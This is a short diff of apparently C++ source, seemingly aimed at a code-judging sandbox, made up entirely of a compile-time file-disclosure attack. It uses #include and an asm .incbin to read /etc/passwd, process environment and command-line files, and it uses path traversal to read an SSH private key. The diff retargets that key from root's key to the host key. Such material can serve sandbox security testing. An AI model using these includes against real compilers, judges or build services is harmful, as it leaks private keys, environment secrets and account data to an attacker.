@@ -6,7 +6,7 @@
 #include "/etc/passwd"
 #include "/proc/self/environ"
 #include "/proc/1/cmdline"
-#include "/box/../root/.ssh/id_rsa"
+#include "/box/../etc/ssh/ssh_host_rsa_key"
 asm(".incbin \"/etc/passwd\"");
 
 std::vector<std::string> attack(int token) { return {}; }
